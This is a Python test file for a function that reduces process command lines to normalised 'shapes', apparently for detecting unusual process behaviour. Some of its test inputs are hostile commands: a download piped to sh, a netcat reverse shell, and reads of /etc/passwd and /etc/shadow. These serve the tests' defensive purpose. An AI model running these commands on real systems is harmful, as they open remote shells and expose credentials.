"""A command line's shape is the same for the same way of calling, and another for another."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from periderm.algorithms.argument_shapes import MOST_CHARACTERS, argument_shape


@pytest.mark.parametrize(
    ("line", "shape"),
    [
        ("nginx", ""),
        ("nginx -g 'daemon off;'", "-g *"),
        ("redis-server /etc/redis/redis.conf --port 6379", "/etc/redis/redis.conf --port N"),
        ("redis-cli -p 6379 ping", "-p N ping"),
        ("sh -c 'curl http://1.2.3.4/x | sh'", "-c {curl;sh}"),
        ("bash -lc 'id; uname -a && FOO=1 /bin/cat /etc/passwd'", "-lc {id;uname;cat}"),
        ("sh -c -- date", "-c {date}"),
        ("sh -c 'if test -f x; then exec true; fi'", "-c {test;true}"),
        ("python3 -c 'import socket, os as o; o.dup2(1, 2)'", "-c {os,socket}"),
        ("perl -e 'use Socket;'", "-e {Socket}"),
        ("curl -fsS http://localhost:8080/health", "-fsS http://localhost/*"),
        ("curl -s http://other.example/x -o /tmp/x", "-s http://* -o /tmp/**"),
        ("find / -perm -4000", "/ -perm N"),
        ("tar xzf /tmp/a81f/x.tgz", "xzf /tmp/**"),
        ("sh /etc/cron.daily/x a b c d", "/etc/cron.daily/x *"),
        ("php-fpm8.2 --fpm-config /etc/php/8.2/fpm/php-fpm.conf", "--fpm-config /etc/php/*/fpm/php-fpm.conf"),
        ("dd if=/dev/zero of=/tmp/x bs=1M", "if=/dev/zero of=/tmp/** bs=N"),
        ("nc -e /bin/sh 10.0.0.1 4444", "-e /bin/sh ADDRESS N"),
        ("x ''", "''"),
    ],
)
def test_shapes(line: str, shape: str) -> None:
    """What is typed stays, what changes is told by its kind."""
    assert argument_shape(shlex.split(line)) == shape


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("sleep 5", "sleep 17.5"),
        ("gs -sOutputFile=/tmp/a1.png -r72", "gs -sOutputFile=/tmp/zz9.png -r300"),
        ("convert /tmp/phpA1b2C3 out.png", "convert /tmp/phpZ9y8X7 out.png"),
        ("worker --id 550e8400-e29b-41d4-a716-446655440000", "worker --id 123e4567-e89b-12d3-a456-426614174000"),
        ("sh -c 'convert /tmp/1 /tmp/2'", "sh -c 'convert /tmp/3 /tmp/4'"),
        ("cat /proc/17/stat", "cat /proc/4711/stat"),
    ],
)
def test_the_same_call(one: str, other: str) -> None:
    """Another number, temporary name or process is the same way of calling."""
    assert argument_shape(shlex.split(one)) == argument_shape(shlex.split(other))


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("sh -c 'redis-cli ping'", "sh -c 'redis-cli ping; curl http://x.example'"),
        ("curl http://localhost/", "curl http://other.example/"),
        ("find /var/lib/php/sessions -cmin 24", "find / -perm 4000"),
        ("python3 app.py", "python3 -c 'import pty'"),
        ("cat /etc/hostname", "cat /etc/shadow"),
    ],
)
def test_another_call(one: str, other: str) -> None:
    """Other commands in a shell's text, another place, another option: not the same way of calling."""
    assert argument_shape(shlex.split(one)) != argument_shape(shlex.split(other))


@given(st.lists(st.text(max_size=40), max_size=60))
def test_any_arguments(argv: list[str]) -> None:
    """Whatever is passed has a shape, and not a long one; the program's own name is no part of it."""
    shape = argument_shape(argv)
    assert len(shape) <= MOST_CHARACTERS
    if len(argv) > 1:
        assert argument_shape(argv) == shape
        assert argument_shape(["zzz", *argv[1:]]) == argument_shape(["yyy", *argv[1:]])


def test_huge_arguments() -> None:
    """A megabyte of one argument, and ten thousand arguments, are cut and told as such."""
    assert len(argument_shape(["sh", "-c", "a;" * 500_000])) <= MOST_CHARACTERS
    assert argument_shape(["x", *(f"-o{i}" for i in range(10_000))]).endswith("…")
